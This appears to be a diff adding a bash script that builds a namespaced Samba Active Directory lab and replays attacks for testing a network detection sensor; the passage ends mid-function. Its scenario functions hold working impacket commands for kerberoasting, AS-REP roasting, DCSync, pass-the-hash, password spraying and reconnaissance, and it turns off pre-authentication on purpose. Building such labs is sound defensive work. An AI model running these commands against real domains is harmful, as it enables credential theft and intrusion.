@@ -1,0 +1,684 @@
+#!/bin/bash
+# dcwatch's Active Directory lab: a real Samba AD domain controller, a client with real Kerberos,
+# LDAP, SMB and impacket tools, and a mirror of the DC's traffic for the sensor, all in network
+# namespaces on this machine. See tests/lab/README.md; `cargo xtask lab` runs this script.
+#
+#   dcwlab-client  cl0 10.98.0.2 <== veth ==> dc0 10.98.0.1  dcwlab-dc   (Samba AD DC dc1.lab.example)
+#                                             dc0 ingress+egress --tc u32+mirred--> span0
+#   dcwlab-sensor  sensor0 (no address, promiscuous) <== veth ==> span0    (the SPAN port)
+#
+# usage: lab.sh up | down | status | scenario list|all|NAME... | check-mirror | exec dc|client|sensor CMD...
+#   CAP=1 lab.sh scenario NAME   also writes the mirror's frames (sensor side) to $CAP_DIR/NAME.pcap
+#
+# State (the DC's database, configs, logs, pcaps, the impacket venv) lives in ${DCWLAB_DIR:-/tmp/dcwlab}
+# and `down` removes it; downloads are cached in ${DCWLAB_CACHE:-/var/cache/dcwlab}, which survives.
+set -Eeuo pipefail
+
+readonly HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
+readonly TOOLS=$HERE/tools
+readonly STATE=${DCWLAB_DIR:-/tmp/dcwlab}
+readonly CACHE=${DCWLAB_CACHE:-/var/cache/dcwlab}
+readonly DC=$STATE/dc CLIENT=$STATE/client LOGS=$STATE/logs VENV=$STATE/venv
+readonly CAP=${CAP:-0} CAP_DIR=${CAP_DIR:-$STATE/pcaps}
+
+readonly NS_DC=dcwlab-dc NS_CLIENT=dcwlab-client NS_SENSOR=dcwlab-sensor
+# 10.98.0.0/24: not the shared lab's 10.99.0.0/24, so both can exist side by side.
+readonly DC_IP=10.98.0.1 CLIENT_IP=10.98.0.2
+readonly REALM=LAB.EXAMPLE DOMAIN=LAB DNSDOMAIN=lab.example DC_NAME=dc1
+readonly ADMIN_PW='Adm1n!Passw0rd'
+readonly SMB_CONF=$DC/etc/smb.conf
+
+# Pinned: the compatibility patches in tools/ replace impacket internals of this version.
+readonly IMPACKET_VERSION=0.13.1
+readonly APT_PACKAGES="samba samba-ad-dc samba-ad-provision samba-dsdb-modules samba-vfs-modules winbind
+ python3-samba python3-venv krb5-user smbclient ldap-utils bind9-dnsutils libsasl2-modules-gssapi-mit
+ tshark tcpdump ethtool iproute2 util-linux"
+
+# Scenarios, in the order `scenario all` runs them, and what each one is.
+readonly SCENARIOS="benign kerberoast asreproast dcsync pass-the-hash overpass-the-hash bruteforce-kerberos
+ bruteforce-ntlm bruteforce-ldap spray recon-samr recon-ldap psexec axfr"
+declare -A WHAT=(
+    [benign]="kinit, service tickets, SMB file access with NTLM and with Kerberos, LDAP simple and GSSAPI binds and searches, DNS lookups"
+    [kerberoast]="GetUserSPNs -request: LDAP SPN search, then an RC4 service ticket for svc_sql (\$krb5tgs\$23\$)"
+    [asreproast]="GetNPUsers over a user list without credentials: AS-REQs without pre-auth, bob's RC4 AS-REP (\$krb5asrep\$23\$)"
+    [dcsync]="secretsdump -just-dc-ntlm as Administrator: SAMR, EPM, DRSUAPI DsGetNCChanges (NTLM, sealed)"
+    [pass-the-hash]="SMB with Administrator's NT hash instead of the password (NTLM)"
+    [overpass-the-hash]="getTGT with Administrator's NT hash (RC4 AS-REQ), then SMB with Kerberos from that ticket"
+    [bruteforce-kerberos]="10 wrong passwords for carol via kinit (KDC_ERR_PREAUTH_FAILED), then the right one"
+    [bruteforce-ntlm]="10 wrong passwords for carol over SMB NTLM (STATUS_LOGON_FAILURE), then the right one"
+    [bruteforce-ldap]="10 wrong passwords for carol as LDAP simple binds (invalidCredentials), then the right one"
+    [spray]="one password against every account, over Kerberos and over SMB NTLM, including an unknown user"
+    [recon-samr]="SAMR and LSA enumeration: anonymous and authenticated rpcclient, samrdump, lookupsid"
+    [recon-ldap]="LDAP reconnaissance: rootDSE, SPN, no-pre-auth, adminCount and group searches, GetADUsers -all"
+    [psexec]="psexec as Administrator: the .exe upload works, creating the service fails (Samba has no CreateService)"
+    [axfr]="zone transfer attempts (AXFR, IXFR): Samba's DNS answers with the SOA only"
+)
+
+log() { printf '[dcwlab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
+die() {
+    log "error: $*"
+    exit 1
+}
+# Names the command that failed, unless it is a function handing back its failure.
+on_error() { case $BASH_COMMAND in return*) ;; *) log "error: '$BASH_COMMAND' failed (line $1)" ;; esac; }
+trap 'on_error $LINENO' ERR
+
+# ------------------------------------------------------------------------------ namespaces
+
+ns_exists() { ip netns list | grep -qE "^$1( |$)"; }
+
+# Runs a shell snippet in the DC namespace, in a private mount namespace where the lab's resolv.conf
+# and hosts replace the machine's, and the lab's run directory replaces /run/samba (Samba's clients
+# look for winbindd there whatever the config says). The mounts vanish with the processes.
+in_dc() {
+    ip netns exec $NS_DC unshare -m --propagation private bash -c '
+        mount --bind "$0/resolv.conf" /etc/resolv.conf && mount --bind "$0/hosts" /etc/hosts &&
+        mount --bind "$0/run" /run/samba && export KRB5_CONFIG="$0/krb5.conf" && eval "$1"' "$DC" "$*"
+}
+
+# Runs a shell snippet in the client namespace, with the client's resolv.conf, hosts and env.sh.
+in_client() {
+    ip netns exec $NS_CLIENT unshare -m --propagation private bash -c '
+        mount --bind "$0/resolv.conf" /etc/resolv.conf && mount --bind "$0/hosts" /etc/hosts &&
+        . "$0/env.sh" && eval "$1"' "$CLIENT" "$*"
+}
+
+in_sensor() { ip netns exec $NS_SENSOR bash -c "$*"; }
+
+# Frames on the wire must be what a NIC would see: no TSO/GSO/GRO super-frames, real checksums.
+no_offloads() { ip netns exec "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true; }
+
+network_up() {
+    local ns
+    # `ip netns add` makes /run/netns a mount point the first time; if this lab is the first, `down`
+    # undoes that too.
+    if ! mountpoint -q /run/netns && [ ! -f "$STATE/.made-run-netns" ]; then touch "$STATE/.made-run-netns"; fi
+    for ns in $NS_DC $NS_CLIENT $NS_SENSOR; do
+        ns_exists $ns || ip netns add $ns
+        # IPv4 only: no router solicitations or MLD reports muddying the captures.
+        ip netns exec $ns sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+        ip -n $ns link set lo up
+    done
+    ip -n $NS_DC link show dc0 >/dev/null 2>&1 ||
+        ip link add dc0 netns $NS_DC address 02:00:0a:62:00:01 type veth peer cl0 netns $NS_CLIENT address 02:00:0a:62:00:02
+    ip -n $NS_DC link show span0 >/dev/null 2>&1 ||
+        ip link add span0 netns $NS_DC address 02:00:0a:62:00:fe type veth peer sensor0 netns $NS_SENSOR address 02:00:0a:62:00:ff
+    ip -n $NS_DC addr replace $DC_IP/24 dev dc0
+    ip -n $NS_CLIENT addr replace $CLIENT_IP/24 dev cl0
+    ip -n $NS_DC link set dc0 up
+    ip -n $NS_DC link set span0 up
+    ip -n $NS_CLIENT link set cl0 up
+    ip -n $NS_SENSOR link set sensor0 up promisc on
+    no_offloads $NS_DC dc0
+    no_offloads $NS_DC span0
+    no_offloads $NS_CLIENT cl0
+    no_offloads $NS_SENSOR sensor0
+    mirror_up
+}
+
+# The SPAN port: every frame dc0 receives or sends is copied out of span0. This kernel has no
+# matchall or flower classifier, so a u32 filter that matches everything does it.
+mirror_up() {
+    local direction
+    tc -n $NS_DC qdisc replace dev dc0 clsact
+    for direction in ingress egress; do
+        tc -n $NS_DC filter show dev dc0 $direction | grep -q mirred ||
+            tc -n $NS_DC filter add dev dc0 $direction protocol all prio 1 u32 match u32 0 0 \
+                action mirred egress mirror dev span0
+    done
+}
+
+# Ends every process in a namespace (Samba's daemons and workers, tcpdump), by PID, and waits until
+# they are gone: a process that is still exiting no longer shows in `ip netns pids`.
+kill_namespace_processes() {
+    local ns=$1 pids pid tries
+    ns_exists "$ns" || return 0
+    pids=$(ip netns pids "$ns" 2>/dev/null) || true
+    [ -n "$pids" ] || return 0
+    for pid in $pids; do kill -TERM "$pid" 2>/dev/null || true; done
+    for tries in $(seq 1 50); do
+        alive "$pids" || return 0
+        sleep 0.2
+    done
+    for pid in $pids; do kill -KILL "$pid" 2>/dev/null || true; done
+    for tries in $(seq 1 25); do
+        alive "$pids" || return 0
+        sleep 0.2
+    done
+    log "warning: processes $pids of $ns would not end"
+}
+
+# Whether any of the PIDs still exists.
+alive() {
+    local pid
+    for pid in $1; do [ -d "/proc/$pid" ] && return 0; done
+    return 1
+}
+
+# ------------------------------------------------------------------------------ install
+
+# Installs the Debian packages and the pinned impacket; quick when both are there already.
+install() {
+    local missing="" package attempt
+    for package in $APT_PACKAGES; do
+        dpkg-query -W -f='${Status}' "$package" 2>/dev/null | grep -q 'ok installed' || missing+=" $package"
+    done
+    if [ -n "$missing" ]; then
+        log "apt-get install$missing (log: $LOGS/apt.log)"
+        # Answers for the questions these packages ask, so the install runs unattended.
+        debconf-set-selections <<EOF
+krb5-config krb5-config/default_realm string $REALM
+krb5-config krb5-config/add_servers_realm string $REALM
+krb5-config krb5-config/add_servers boolean false
+wireshark-common wireshark-common/install-setuid boolean false
+samba-common samba-common/dhcp boolean false
+samba-common samba-common/workgroup string $DOMAIN
+EOF
+        for attempt in 1 2 3; do
+            # Another apt may hold the lock (unattended upgrades on a fresh machine): wait, then retry.
+            DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=300 update -qq >>"$LOGS/apt.log" 2>&1 &&
+                DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=300 install -y -qq \
+                    --no-install-recommends $missing >>"$LOGS/apt.log" 2>&1 && break
+            log "apt-get failed (attempt $attempt), retrying in 10 s"
+            sleep 10
+        done
+        for package in $missing; do
+            dpkg-query -W -f='${Status}' "$package" 2>/dev/null | grep -q 'ok installed' ||
+                die "could not install $package (see $LOGS/apt.log)"
+        done
+        # Debian may start the host's own Samba; the lab's runs only inside its namespace.
+        systemctl disable --now samba-ad-dc smbd nmbd winbind >/dev/null 2>&1 || true
+    fi
+    if [ "$("$VENV/bin/python" -c 'import importlib.metadata as m; print(m.version("impacket"))' 2>/dev/null)" != "$IMPACKET_VERSION" ]; then
+        log "impacket $IMPACKET_VERSION into $VENV (pip cache: $CACHE/pip)"
+        # Debian's python3, whatever else is first on PATH: python3-venv is what apt installed.
+        /usr/bin/python3 -m venv "$VENV" >>"$LOGS/pip.log" 2>&1 || die "python3 -m venv failed (see $LOGS/pip.log)"
+        "$VENV/bin/pip" install -q --cache-dir "$CACHE/pip" "impacket==$IMPACKET_VERSION" >>"$LOGS/pip.log" 2>&1 ||
+            die "pip install impacket==$IMPACKET_VERSION failed (see $LOGS/pip.log)"
+    fi
+}
+
+# ------------------------------------------------------------------------------ configuration
+
+write_configs() {
+    mkdir -p "$DC/run" "$DC/log" "$DC/share" "$CLIENT/samba"
+    # Mount point for the DC's run directory. Samba's package usually made it; if we make it,
+    # `down` removes it again.
+    if [ ! -d /run/samba ]; then
+        mkdir /run/samba
+        touch "$STATE/.made-run-samba"
+    fi
+    printf 'nameserver %s\nsearch %s\n' $DC_IP $DNSDOMAIN >"$DC/resolv.conf"
+    cp "$DC/resolv.conf" "$CLIENT/resolv.conf"
+    printf '127.0.0.1 localhost\n%s %s.%s %s\n' $DC_IP $DC_NAME $DNSDOMAIN $DC_NAME >"$DC/hosts"
+    printf '127.0.0.1 localhost\n%s client1.%s client1\n' $CLIENT_IP $DNSDOMAIN >"$CLIENT/hosts"
+    # The KDC's config. Heimdal's default require-preauth = true would make the no-pre-auth flag
+    # (AS-REP roasting) do nothing.
+    cat >"$DC/krb5.conf" <<EOF
+[libdefaults]
+	default_realm = $REALM
+	dns_lookup_realm = false
+	dns_lookup_kdc = true
+[domain_realm]
+	$DC_NAME = $REALM
+[kdc]
+	require-preauth = false
+EOF
+    # TCP only (udp_preference_limit = 0), as Windows does for tickets with a PAC.
+    cat >"$CLIENT/krb5.conf" <<EOF
+[libdefaults]
+	default_realm = $REALM
+	dns_lookup_realm = false
+	dns_lookup_kdc = true
+	rdns = false
+	udp_preference_limit = 0
+[realms]
+	$REALM = {
+		kdc = $DC_NAME.$DNSDOMAIN
+		admin_server = $DC_NAME.$DNSDOMAIN
+	}
+[domain_realm]
+	.$DNSDOMAIN = $REALM
+	$DNSDOMAIN = $REALM
+EOF
+    # The client's smbclient/rpcclient keep their state in the lab, not in the machine's /var/lib/samba.
+    cat >"$CLIENT/smb.conf" <<EOF
+[global]
+	workgroup = $DOMAIN
+	realm = $REALM
+	security = ads
+	client min protocol = SMB2
+	lock directory = $CLIENT/samba
+	state directory = $CLIENT/samba
+	cache directory = $CLIENT/samba
+	private dir = $CLIENT/samba
+	pid directory = $CLIENT/samba
+	ncalrpc dir = $CLIENT/samba/ncalrpc
+	log file = $CLIENT/samba/client.log
+EOF
+    cat >"$CLIENT/env.sh" <<EOF
+# Sourced by every command run in the client namespace.
+export KRB5_CONFIG=$CLIENT/krb5.conf KRB5CCNAME=$CLIENT/krb5cc LDAPTLS_REQCERT=never
+export PATH=$VENV/bin:\$PATH
+export DC_IP=$DC_IP REALM=$REALM DOMAIN=$DOMAIN DNSDOMAIN=$DNSDOMAIN DC_FQDN=$DC_NAME.$DNSDOMAIN BASE=dc=lab,dc=example
+export CLIENT=$CLIENT CSMB=$CLIENT/smb.conf IMP="python $TOOLS/impacket_samba.py"
+export ADMIN_PW='$ADMIN_PW' ALICE_PW='Alice!Passw0rd1' BOB_PW='Bob!Passw0rd1' CAROL_PW='Carol!Passw0rd1' SVC_PW='Svc!Sql2024x'
+export WRONG_PWS='Password1 Winter2024! Summer2025! Welcome1 Carol2024 Qwerty123! Letmein1! Passw0rd! Company1 Spring2025!'
+cd $CLIENT
+EOF
+    printf 'alice\nbob\ncarol\nsvc_sql\nAdministrator\nnosuchuser\n' >"$CLIENT/users.txt"
+    echo "hello from the DC's share" >"$DC/share/readme.txt"
+    chmod 1777 "$DC/share"
+}
+
+provisioned() { [ -f "$DC/.configured" ]; }
+
+provision() {
+    local started=$SECONDS
+    log "provisioning $REALM (log: $LOGS/provision.log)"
+    # An empty config file: otherwise provisioning copies the shares of Debian's /etc/samba/smb.conf.
+    : >"$DC/empty.conf"
+    in_dc "samba-tool domain provision --configfile=$DC/empty.conf --targetdir=$DC \
+        --realm=$REALM --domain=$DOMAIN --server-role=dc --dns-backend=SAMBA_INTERNAL \
+        --host-name=$DC_NAME --host-ip=$DC_IP --adminpass='$ADMIN_PW' --use-rfc2307 \
+        --option='interfaces = lo dc0' --option='bind interfaces only = yes' \
+        --option='pid directory = $DC/run' --option='ncalrpc dir = $DC/run/ncalrpc' \
+        --option='winbindd socket directory = $DC/run/winbindd' \
+        --option='ntp signd socket directory = $DC/run/ntp_signd' \
+        --option='log file = $DC/log/samba.log' --option='load printers = no' \
+        --option='printing = bsd' --option='printcap name = /dev/null' --option='disable spoolss = yes'" \
+        >"$LOGS/provision.log" 2>&1 || {
+        tail -20 "$LOGS/provision.log" >&2
+        die "provisioning failed"
+    }
+    # Provisioning copies the machine's resolver as a DNS forwarder: nothing may leave the lab.
+    sed -i '/dns forwarder/d' "$SMB_CONF"
+    # Simple binds on 389 without TLS, so the lab shows cleartext LDAP binds and their brute force.
+    sed -i '/^\[global\]/a\	ldap server require strong auth = no' "$SMB_CONF"
+    # A share anyone in the domain can write to: file access, and psexec's upload.
+    printf '\n[share]\n\tpath = %s\n\tread only = No\n' "$DC/share" >>"$SMB_CONF"
+    log "provisioned in $((SECONDS - started)) s"
+}
+
+samba_pid() {
+    local pid
+    pid=$(cat "$DC/run/samba.pid" 2>/dev/null) || return 1
+    kill -0 "$pid" 2>/dev/null && echo "$pid"
+}
+
+listening() { ip netns exec $NS_DC ss -Hltn "sport = :$1" | grep -q "$DC_IP:$1"; }
+
+samba_start() {
+    samba_pid >/dev/null && return 0
+    in_dc "samba -s $SMB_CONF -D"
+    local tries
+    for tries in $(seq 1 120); do
+        if listening 88 && listening 389 && listening 445 &&
+            in_client "dig +short +time=1 +tries=1 $DC_NAME.$DNSDOMAIN" 2>/dev/null | grep -q "$DC_IP"; then
+            log "samba is up (pid $(samba_pid))"
+            return 0
+        fi
+        sleep 0.5
+    done
+    tail -30 "$DC/log/samba.log" >&2
+    die "samba did not come up"
+}
+
+# The accounts the scenarios use (see README.md), set once after provisioning.
+configure_domain() {
+    provisioned && return 0
+    log "adding accounts, SPN and DNS records (log: $LOGS/configure.log)"
+    local conf="-s $SMB_CONF" admin="-U Administrator%$ADMIN_PW"
+    in_dc "set -e
+        samba-tool domain passwordsettings set --max-pwd-age=0 $conf >/dev/null
+        samba-tool user add alice 'Alice!Passw0rd1' --given-name=Alice --surname=Lab $conf
+        samba-tool user add bob 'Bob!Passw0rd1' $conf
+        samba-tool user add carol 'Carol!Passw0rd1' $conf
+        samba-tool user add svc_sql 'Svc!Sql2024x' $conf
+        samba-tool spn add MSSQLSvc/sql01.$DNSDOMAIN:1433 svc_sql $conf
+        /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF bob on
+        /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF krbtgt on
+        samba-tool dns zonecreate $DC_IP 0.98.10.in-addr.arpa $admin >/dev/null
+        samba-tool dns add $DC_IP 0.98.10.in-addr.arpa 1 PTR $DC_NAME.$DNSDOMAIN $admin >/dev/null
+        samba-tool dns add $DC_IP $DNSDOMAIN sql01 A 10.98.0.50 $admin >/dev/null
+        samba-tool dns add $DC_IP $DNSDOMAIN client1 A $CLIENT_IP $admin >/dev/null" \
+        >>"$LOGS/configure.log" 2>&1 || {
+        tail -20 "$LOGS/configure.log" >&2
+        die "configuring the domain failed"
+    }
+    touch "$DC/.configured"
+}
+
+# ------------------------------------------------------------------------------ up, down, status
+
+cmd_up() {
+    local started=$SECONDS
+    mkdir -p "$STATE" "$LOGS" "$CACHE"
+    install
+    network_up
+    write_configs
+    provisioned || provision
+    samba_start
+    configure_domain
+    log "lab is up in $((SECONDS - started)) s: DC $DC_NAME.$DNSDOMAIN $DC_IP ($NS_DC), client $CLIENT_IP ($NS_CLIENT), mirror sensor0 ($NS_SENSOR)"
+}
+
+cmd_down() {
+    local ns
+    for ns in $NS_SENSOR $NS_CLIENT $NS_DC; do
+        kill_namespace_processes $ns
+        # Deleting a namespace deletes its veths (and so their peers).
+        if ns_exists $ns; then ip netns del $ns; fi
+    done
+    if [ -f "$STATE/.made-run-samba" ]; then rmdir /run/samba 2>/dev/null || true; fi
+    # Only when no namespace at all is left: someone else's would lose its mount.
+    if [ -f "$STATE/.made-run-netns" ] && [ -z "$(ip netns list)" ] && mountpoint -q /run/netns; then
+        umount /run/netns || true
+    fi
+    rm -rf "$STATE"
+    log "lab is down: namespaces, processes and $STATE removed"
+}
+
+cmd_status() {
+    local ns pid
+    for ns in $NS_DC $NS_CLIENT $NS_SENSOR; do
+        if ns_exists $ns; then echo "namespace $ns: present"; else echo "namespace $ns: absent"; fi
+    done
+    if pid=$(samba_pid); then echo "samba: running, pid $pid"; else echo "samba: not running"; fi
+    if provisioned; then echo "domain: $REALM provisioned in $DC"; else echo "domain: not provisioned"; fi
+    if ns_exists $NS_DC && tc -n $NS_DC filter show dev dc0 egress 2>/dev/null | grep -q mirred; then
+        echo "mirror: dc0 (both directions) -> span0 -> sensor0"
+    fi
+    return 0
+}
+
+require_up() { samba_pid >/dev/null || die "the lab is not up (run: lab.sh up)"; }
+
+# ------------------------------------------------------------------------------ capture
+
+CAPTURE_PID=""
+
+# Starts tcpdump on an interface in a namespace, writing to a file; returns once it listens.
+capture_start() {
+    local ns=$1 interface=$2 file=$3 tries
+    rm -f "$file" "$file.log"
+    ip netns exec "$ns" tcpdump -i "$interface" -s 0 -U -n -w "$file" >"$file.log" 2>&1 &
+    CAPTURE_PID=$!
+    for tries in $(seq 1 50); do
+        grep -q 'listening on' "$file.log" 2>/dev/null && return 0
+        sleep 0.1
+    done
+    die "tcpdump on $interface did not start (see $file.log)"
+}
+
+# Stops a capture after the last frames had time to arrive.
+capture_stop() {
+    sleep 1
+    kill -INT "$1" 2>/dev/null || true
+    wait "$1" 2>/dev/null || true
+    rm -f "$2.log"
+}
+
+# Counts the frames of a pcap from the client to the DC and back: "TO FROM".
+directions() {
+    echo "$(tcpdump -nr "$1" "src $CLIENT_IP and dst $DC_IP" 2>/dev/null | wc -l)" \
+        "$(tcpdump -nr "$1" "src $DC_IP and dst $CLIENT_IP" 2>/dev/null | wc -l)"
+}
+
+# Captures dc0 and the sensor's end of the mirror while the client makes some traffic; the mirror
+# must have seen the same frames in both directions.
+cmd_check_mirror() {
+    require_up
+    local dir=$STATE/mirror-check dc0_pid sensor_pid at_dc0 at_sensor
+    mkdir -p "$dir"
+    capture_start $NS_DC dc0 "$dir/dc0.pcap"
+    dc0_pid=$CAPTURE_PID
+    capture_start $NS_SENSOR sensor0 "$dir/sensor0.pcap"
+    sensor_pid=$CAPTURE_PID
+    in_client 'dig +short $DC_FQDN >/dev/null
+        smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/alice%$ALICE_PW" --use-kerberos=off -c "get readme.txt /dev/null"
+        ldapsearch -x -H ldap://$DC_IP -b "" -s base >/dev/null' >/dev/null 2>&1 || true
+    capture_stop $dc0_pid "$dir/dc0.pcap"
+    capture_stop $sensor_pid "$dir/sensor0.pcap"
+    at_dc0=$(directions "$dir/dc0.pcap")
+    at_sensor=$(directions "$dir/sensor0.pcap")
+    printf '%-8s client->dc %5s   dc->client %5s\n' dc0 $at_dc0 sensor0 $at_sensor
+    rm -rf "$dir"
+    # shellcheck disable=SC2086 # two numbers
+    set -- $at_sensor
+    if [ "$at_dc0" = "$at_sensor" ] && [ "$1" -gt 0 ] && [ "$2" -gt 0 ]; then
+        echo "mirror ok: sensor0 sees both directions, the same frames as dc0"
+    else
+        echo "mirror MISMATCH"
+        return 1
+    fi
+}
+
+# ------------------------------------------------------------------------------ scenarios
+#
+# Each scenario is a function run inside the client namespace (env.sh's variables are set, the
+# working directory is $CLIENT) under `set -e`: it fails when a step that must work against Samba
+# does not, and checks that attacks got what they came for. Its output goes to
+# $STATE/logs/scenario-NAME.log.
+
+# Fails the scenario unless FILE contains PATTERN (an extended regex).
+expect_in() { grep -qE -- "$1" "$2" || { echo "expected /$1/ in $2" >&2; return 1; }; }
+
+scenario_benign() {
+    kdestroy 2>/dev/null || true
+    kinit alice <<<"$ALICE_PW" >/dev/null
+    kvno cifs/$DC_FQDN ldap/$DC_FQDN host/$DC_FQDN
+    klist
+    # SMB with NTLM (by address, no ticket can be used) and with Kerberos (by name, from the ccache).
+    smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/alice%$ALICE_PW" --use-kerberos=off \
+        -c "ls; get readme.txt $CLIENT/readme-ntlm.txt; put $CLIENT/users.txt users-alice.txt; rm users-alice.txt"
+    smbclient -s $CSMB //$DC_FQDN/share --use-kerberos=required --use-krb5-ccache=$KRB5CCNAME \
+        -c "ls; get readme.txt $CLIENT/readme-krb.txt"
+    smbclient -s $CSMB //$DC_FQDN/sysvol --use-kerberos=required --use-krb5-ccache=$KRB5CCNAME -c "ls"
+    expect_in hello "$CLIENT/readme-ntlm.txt"
+    expect_in hello "$CLIENT/readme-krb.txt"
+    ldapsearch -LLL -x -H ldap://$DC_IP -b "" -s base defaultNamingContext dnsHostName
+    ldapsearch -LLL -x -H ldap://$DC_FQDN -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE "(sAMAccountName=alice)" memberOf
+    ldapsearch -LLL -N -Y GSSAPI -H ldap://$DC_FQDN -b $BASE "(objectClass=group)" cn | grep -c '^cn:'
+    dig +short -t SRV _ldap._tcp.dc._msdcs.$DNSDOMAIN
+    dig +short -t SRV _kerberos._tcp.$DNSDOMAIN
+    dig +short $DC_FQDN | grep -qx "$DC_IP"
+    dig +short -x $DC_IP
+}
+
+scenario_kerberoast() {
+    # GetUserSPNs reads KRB5CCNAME even with a password, and fails when no kinit made that file yet.
+    env -u KRB5CCNAME $IMP GetUserSPNs.py -dc-ip $DC_IP -request -outputfile kerberoast.hashes "$REALM/alice:$ALICE_PW"
+    expect_in '^\$krb5tgs\$23\$\*svc_sql\$' kerberoast.hashes
+}
+
+scenario_asreproast() {
+    $IMP GetNPUsers.py -dc-ip $DC_IP -usersfile users.txt -no-pass -format hashcat -outputfile asrep.hashes "$REALM/"
+    expect_in '^\$krb5asrep\$23\$bob@' asrep.hashes
+}
+
+scenario_dcsync() {
+    $IMP secretsdump.py -just-dc-ntlm "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >dcsync.out
+    cat dcsync.out
+    expect_in '^krbtgt:502:' dcsync.out
+}
+
+nt_hash() { python -c 'import sys; from impacket.ntlm import compute_nthash; print(compute_nthash(sys.argv[1]).hex())' "$1"; }
+
+scenario_pass-the-hash() {
+    printf 'shares\nuse share\nls\nexit\n' >smb-commands.txt
+    $IMP smbclient.py -hashes ":$(nt_hash "$ADMIN_PW")" -inputfile smb-commands.txt "$DOMAIN/Administrator@$DC_IP" >pth.out
+    cat pth.out
+    expect_in 'readme.txt' pth.out
+}
+
+scenario_overpass-the-hash() {
+    rm -f Administrator.ccache
+    $IMP getTGT.py -hashes ":$(nt_hash "$ADMIN_PW")" -dc-ip $DC_IP "$REALM/Administrator"
+    printf 'shares\nuse share\nls\nexit\n' >smb-commands.txt
+    KRB5CCNAME=Administrator.ccache $IMP smbclient.py -k -no-pass -dc-ip $DC_IP -inputfile smb-commands.txt \
+        "$REALM/Administrator@$DC_FQDN" >opth.out
+    cat opth.out
+    expect_in 'readme.txt' opth.out
+}
+
+# Tries WRONG_PWS then the right password with a command template (PW is replaced); every wrong
+# one must fail and the right one must work.
+guess_passwords() {
+    local pw
+    for pw in $WRONG_PWS; do
+        if "$@" "$pw" >/dev/null 2>&1; then
+            echo "wrong password $pw worked" >&2
+            return 1
+        fi
+        echo "$pw: refused"
+    done
+    "$@" "$CAROL_PW" >/dev/null 2>&1
+    echo "$CAROL_PW: accepted"
+}
+
+kinit_carol() { kinit carol <<<"$1"; }
+smb_carol() { smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/carol%$1" --use-kerberos=off; }
+ldap_carol() { ldapsearch -x -H ldap://$DC_IP -D carol@$DNSDOMAIN -w "$1" -b "" -s base; }
+
+scenario_bruteforce-kerberos() { guess_passwords kinit_carol; }
+scenario_bruteforce-ntlm() { guess_passwords smb_carol; }
+scenario_bruteforce-ldap() { guess_passwords ldap_carol; }
+
+scenario_spray() {
+    local user
+    while read -r user; do
+        if kinit "$user" <<<'Autumn2025!' >/dev/null 2>&1; then echo "kerberos $user: accepted"; else echo "kerberos $user: refused"; fi
+        if smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/$user%Autumn2025!" --use-kerberos=off >/dev/null 2>&1; then
+            echo "ntlm $user: accepted"
+        else
+            echo "ntlm $user: refused"
+        fi
+    done <users.txt
+}
+
+scenario_recon-samr() {
+    # Samba answers anonymous SAMR enumeration (a default Windows DC does not).
+    rpcclient -s $CSMB -U "" -N $DC_IP -c "enumdomusers" || true
+    rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP \
+        -c "querydominfo; enumdomusers; enumdomgroups; querygroupmem 0x200; getdompwinfo; lsaquery; netshareenumall" >samr.out
+    $IMP samrdump.py "$DOMAIN/alice:$ALICE_PW@$DC_IP" >>samr.out
+    $IMP lookupsid.py "$DOMAIN/alice:$ALICE_PW@$DC_IP" 1200 >>samr.out
+    cat samr.out
+    expect_in 'svc_sql' samr.out
+}
+
+scenario_recon-ldap() {
+    local bind=(-LLL -x -H ldap://$DC_FQDN -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE)
+    ldapsearch -LLL -x -H ldap://$DC_IP -b "" -s base "(objectClass=*)" namingContexts supportedSASLMechanisms
+    {
+        ldapsearch "${bind[@]}" "(&(objectCategory=person)(servicePrincipalName=*))" sAMAccountName servicePrincipalName
+        ldapsearch "${bind[@]}" "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" sAMAccountName
+        ldapsearch "${bind[@]}" "(adminCount=1)" sAMAccountName
+        ldapsearch "${bind[@]}" "(cn=Domain Admins)" member
+        ldapsearch "${bind[@]}" "(objectClass=computer)" dNSHostName operatingSystem
+        $IMP GetADUsers.py -all -dc-ip $DC_IP "$REALM/alice:$ALICE_PW"
+    } >ldap-recon.out
+    cat ldap-recon.out
+    expect_in 'servicePrincipalName: MSSQLSvc' ldap-recon.out
+    expect_in 'sAMAccountName: bob' ldap-recon.out
+}
+
+scenario_psexec() {
+    # Expected to fail at service creation; the scenario checks the attempt got that far.
+    echo exit | timeout 60 $IMP psexec.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >psexec.out 2>&1 || true
+    cat psexec.out
+    expect_in 'Uploading file' psexec.out
+    expect_in 'Error creating service' psexec.out
+}
+
+scenario_axfr() {
+    # Expected to be refused: Samba's internal DNS answers a transfer with the SOA only.
+    {
+        dig AXFR $DNSDOMAIN @$DC_IP
+        dig AXFR _msdcs.$DNSDOMAIN @$DC_IP
+        dig IXFR=1 $DNSDOMAIN @$DC_IP
+    } >axfr.out || true
+    cat axfr.out
+    expect_in 'SOA' axfr.out
+}
+
+scenario_exists() { [ -n "${WHAT[$1]:-}" ]; }
+
+# Runs one scenario in the client namespace, with a pcap of the mirror when CAP=1.
+run_scenario() {
+    local name=$1 started=$SECONDS pcap="" capture="" rc=0 frames=""
+    local log=$LOGS/scenario-$name.log
+    if [ "$CAP" = 1 ]; then
+        mkdir -p "$CAP_DIR"
+        pcap=$CAP_DIR/$name.pcap
+        capture_start $NS_SENSOR sensor0 "$pcap"
+        capture=$CAPTURE_PID
+    fi
+    echo "### scenario $name: ${WHAT[$name]}" >"$log"
